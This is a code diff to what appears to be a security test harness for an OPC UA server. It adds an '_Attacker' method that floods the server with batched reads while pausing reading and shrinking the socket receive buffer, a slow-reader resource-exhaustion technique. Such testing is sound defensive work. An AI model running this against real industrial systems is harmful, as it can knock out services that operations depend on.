@@ -9,6 +9,7 @@ import contextlib
 import json
 import os
 import signal
+import socket
 import subprocess
 import sys
 import threading
@@ -212,6 +213,21 @@ class _Attacker:
             await client.uaclient.activate_session(ua.ActivateSessionParameters())
         return await self._look(client)
 
+    async def ask_without_reading(self, url, count):
+        client = await self._connected(url)
+        await client.open_secure_channel()
+        await self._enter(client)
+        index = await client.get_namespace_index(NAMESPACE)
+        nodes = [client.get_node(f"ns={index};s=Line.ConfigDigest")] * 900
+        transport = client.uaclient.protocol.transport
+        transport.pause_reading()
+        wire = transport.get_extra_info("socket")
+        wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65_536)
+        asks = [client.read_values(nodes) for _ in range(count)]
+        _KEPT.extend([client, asyncio.gather(*asks, return_exceptions=True)])
+        await asyncio.sleep(0.1)
+        return "it asked"
+
     async def _enter(self, client):
         from asyncua import ua
 
@@ -237,6 +253,9 @@ class _Attacker:
         await client.connect_socket()
         await client.send_hello()
         return client
+
+
+_KEPT = []  # what must live on though nobody waits for it
 
 
 @contextlib.contextmanager
